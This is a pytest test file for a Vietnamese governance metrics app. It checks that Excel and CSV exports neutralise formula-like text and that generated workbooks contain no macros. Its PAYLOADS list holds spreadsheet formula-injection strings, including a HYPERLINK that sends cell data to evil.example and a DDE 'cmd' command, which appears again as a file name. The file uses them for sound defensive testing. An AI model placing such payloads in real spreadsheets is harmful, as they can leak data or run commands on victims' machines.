"""No exported cell is ever a live formula, and no workbook we generate carries macros.

Evidence and notes are typed by units: text beginning with =, +, -, @, a tab or a carriage return must
come out as inert text in Excel exports (a string cell, value unchanged) and neutralised in CSV (a leading
apostrophe); the same holds for the issues sheet of the marked-up workbooks we send back."""

from __future__ import annotations

import ast
import csv
import io
import re
import tomllib
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from lgqa_metrics.analysis.export import EXPORT_COLUMNS, FORMULA_TRIGGERS, csv_bytes, export_frame, inert, xlsx_bytes
from lgqa_metrics.domain.issues import make_issue
from lgqa_metrics.domain.roles import Actor, Role
from lgqa_metrics.domain.units import default_registry
from lgqa_metrics.intake.reader import read_bytes
from lgqa_metrics.services.annotate import ISSUES_SHEET, annotate_workbook, issues_workbook
from lgqa_metrics.services.ingest import ingest_bytes
from lgqa_metrics.services.template import build_template
from lgqa_metrics.store.database import Store
from tests.support import builders

ROOT = Path(__file__).resolve().parents[2]
STAFF = Actor("staff-a", Role.STAFF)
#: Text that Excel (or LibreOffice) would run as a formula if it were written or re-read as one.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 225 3842 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
HARMLESS = ("QĐ số 12/QĐ-UBND", "Bình thường, không có dấu bằng", "")
_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _unescape(text: str) -> str:
    """OOXML's ``_x000D_`` escapes (openpyxl leaves them; Excel shows the character)."""
    return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def _frame(evidence: list[str]) -> pd.DataFrame:
    """An export frame of one unit-year with one row per evidence text."""
    rows = [{"unit_id": "q-le-chan", "unit_name": "Quận Lê Chân", "unit_type": "quan", "year": 2023, "quadrant": 1,
             "indicator_code": f"1.{i + 1}", "indicator_name": "Chỉ số", "rating": "red", "score": 0,
             "evidence": text, "note": text, "version": 1, "file_name": text or "bao_cao.xlsx"}
            for i, text in enumerate(evidence)]
    return export_frame(pd.DataFrame(rows))


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS])
def test_inert_prefixes_only_text_that_would_start_a_formula(text: str) -> None:
    expected = "'" + text if text.startswith(FORMULA_TRIGGERS) else text
    assert inert(text) == expected
    assert inert(-3) == -3 and inert(2.5) == 2.5 and inert(None) is None


@pytest.mark.parametrize("headers", ["codes", "vi", "en"])
def test_excel_export_writes_formula_like_text_as_string_cells_unchanged(headers: str) -> None:
    texts = [*PAYLOADS, *HARMLESS]
    data = xlsx_bytes(_frame(texts), {"year": [2023]}, headers=headers)  # type: ignore[arg-type]
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    columns = [c.value for c in ws[1]]
    for key in ("evidence", "note", "file_name"):
        title = key if headers == "codes" else EXPORT_COLUMNS[key][0 if headers == "vi" else 1]
        col = columns.index(title) + 1
        for row, text in enumerate(texts, start=2):
            cell = ws.cell(row, col)
            want = text or ("bao_cao.xlsx" if key == "file_name" else "")
            assert cell.data_type == "s", (key, text)
            assert _unescape(str(cell.value or "")) == want


def test_csv_export_neutralises_formula_like_text_and_leaves_numbers_alone() -> None:
    texts = [*PAYLOADS, *HARMLESS]
    data = csv_bytes(_frame(texts))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts, strict=True):
        want = "'" + text if text.startswith(FORMULA_TRIGGERS) else text
        assert row["evidence"] == want and row["note"] == want
        assert not row["evidence"].startswith(FORMULA_TRIGGERS)
        assert (row["year"], row["score"], row["version"]) == ("2023", "0", "1")


def test_formula_like_evidence_read_from_a_return_is_inert_in_both_exports(store: Store) -> None:
    evidence = {"1.1": PAYLOADS[0], "1.2": PAYLOADS[1], "2.4": PAYLOADS[3]}
    data = builders.word_return(builders.as_words(builders.cycle_ratings()), evidence=evidence)
    (outcome,) = ingest_bytes(store, data, "Hong Bang 2023.xlsx", actor=STAFF)
    assert outcome.status == "accepted"
    frame = export_frame(store.ratings())
    stored = dict(zip(frame["indicator_code"], frame["evidence"], strict=True))
    assert {code: stored[code] for code in evidence} == evidence  # read and stored as the unit typed it
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, headers="codes"))).worksheets[0]
    heads = [c.value for c in ws[1]]
    col, code_col = heads.index("evidence") + 1, heads.index("indicator_code") + 1
    cells = {ws.cell(r, code_col).value: ws.cell(r, col) for r in range(2, ws.max_row + 1)}
    for code, text in evidence.items():
        assert cells[code].data_type == "s" and cells[code].value == text
    rows = {r["indicator_code"]: r for r in csv.DictReader(io.StringIO(csv_bytes(frame).decode("utf-8-sig")))}
    assert {code: rows[code]["evidence"] for code in evidence} == {c: "'" + t for c, t in evidence.items()}


def test_the_issues_sheet_writes_values_and_file_names_as_text() -> None:
    name = "=cmd|' /C calc'!A0.xlsx"
    issues = [make_issue("rating_unknown", file=name, sheet="Biểu 01", cell="D12", value=text, code="1.3")
              for text in PAYLOADS]
    original = builders.word_return(builders.as_words(builders.cycle_ratings()))
    for data in (issues_workbook(issues, name), annotate_workbook(original, issues, name)):
        book = openpyxl.load_workbook(io.BytesIO(data))
        ws = book[ISSUES_SHEET]
        assert ws["A1"].data_type == "s" and name in str(ws["A1"].value)
        values = [ws.cell(r, 5) for r in range(6, 6 + len(PAYLOADS))]
        assert all(c.data_type == "s" for c in values)
        # openpyxl writes a bare CR, which XML reading keeps (lxml) or turns into LF (still text, still inert)
        assert sorted(_unescape(str(c.value)).replace("\r", "\n") for c in values) == sorted(
            p.replace("\r", "\n") for p in PAYLOADS)
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            issues_part = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in issues_part


# --- no macros in what we generate, none served as a macro workbook ------------------------------------


def _assert_no_macros(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        names = zf.namelist()
        types = zf.read("[Content_Types].xml").decode("utf-8")
    assert not any(n.lower().endswith("vbaproject.bin") for n in names), names
    assert "macroEnabled" not in types and "vbaProject" not in types


def test_no_workbook_we_generate_carries_a_vba_project() -> None:
    macro_return = builders.as_xlsm(builders.word_return({**builders.as_words(builders.cycle_ratings()), "1.3": "Tím"}))
    result = read_bytes(macro_return, "bao_cao.xlsm")
    assert result.kind == "xlsm"
    issues = [i for r in result.returns for i in r.issues]
    generated = {
        "template": build_template(default_registry()["p-minh-khai"], 2024),
        "export": xlsx_bytes(_frame(["x"])),
        "issues list": issues_workbook(issues, "bao_cao.xlsm"),
        "marked-up macro workbook": annotate_workbook(macro_return, issues, "bao_cao.xlsm"),
    }
    for what, data in generated.items():
        assert data.startswith(b"PK"), what
        _assert_no_macros(data)


def test_streamlit_table_downloads_are_off_in_favour_of_the_apps_exports() -> None:
    with (ROOT / ".streamlit" / "config.toml").open("rb") as fh:
        client = tomllib.load(fh)["client"]
    assert client["disableDataExport"] is True


def test_archived_originals_are_offered_as_opaque_bytes_never_as_a_macro_workbook() -> None:
    """The Submissions page serves every archived original (an .xlsm among them) as it was sent, with
    the neutral ``application/octet-stream`` type: never one a browser or Excel would open as a workbook."""
    tree = ast.parse((ROOT / "lgqa_metrics" / "ui" / "submissions.py").read_text(encoding="utf-8"))
    originals = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"):
            continue
        kwargs = {k.arg: k.value for k in node.keywords}
        data = kwargs.get("data")
        if isinstance(data, ast.Call) and isinstance(data.func, ast.Name) and data.func.id == "_original":
            originals.append(kwargs.get("mime"))
    assert originals, "no download of an archived original found"
    assert all(isinstance(m, ast.Constant) and m.value == "application/octet-stream" for m in originals)
